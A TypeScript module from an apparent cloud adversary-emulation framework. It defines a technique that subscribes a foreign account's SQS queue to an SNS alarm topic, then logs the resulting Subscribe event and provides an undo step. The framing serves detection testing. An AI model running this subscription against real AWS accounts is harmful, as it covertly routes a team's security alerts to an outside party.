import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  topicArn: z.string().startsWith('arn:aws:sns:'),
  foreignQueueArn: z.string().startsWith('arn:aws:sqs:'),
});

/** Reads along: what the defence knows, and when. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'collection.alert-subscription-added',
  title: 'Subscribe a queue of another account to the alarms',
  purpose: 'The attacker knows what was noticed as soon as the team does, and what was not.',
  mitre: ['T1213'],
  sources: [
    {
      title: 'Data from Information Repositories, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1213/',
    },
    {
      title: 'Subscribe, Amazon SNS API Reference',
      url: 'https://docs.aws.amazon.com/sns/latest/api/API_Subscribe.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { topic: true, queue: true, foreignQueue: true },
  needs: ['sns:Subscribe'],
  leaves: [{ service: 'sns.amazonaws.com', name: 'Subscribe', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { topicArn, foreignQueueArn }, aws, say }) {
    say(`Subscribe ${foreignQueueArn} to ${topicArn}`);
    await aws.sns().subscribe({
      TopicArn: topicArn,
      Protocol: 'sqs',
      Endpoint: foreignQueueArn,
      ReturnSubscriptionArn: true,
    });
  },
  undo: {
    kind: 'call',
    plan({ inputs: { topicArn: TopicArn, foreignQueueArn }, aws }) {
      return Promise.resolve(async () => {
        const { Subscriptions = [] } = await aws.sns().listSubscriptionsByTopic({ TopicArn });
        for (const { Endpoint, SubscriptionArn } of Subscriptions) {
          if (Endpoint !== foreignQueueArn || SubscriptionArn?.startsWith('arn:') !== true)
            continue;
          await aws.sns().unsubscribe({ SubscriptionArn });
        }
      });
    },
  },
};
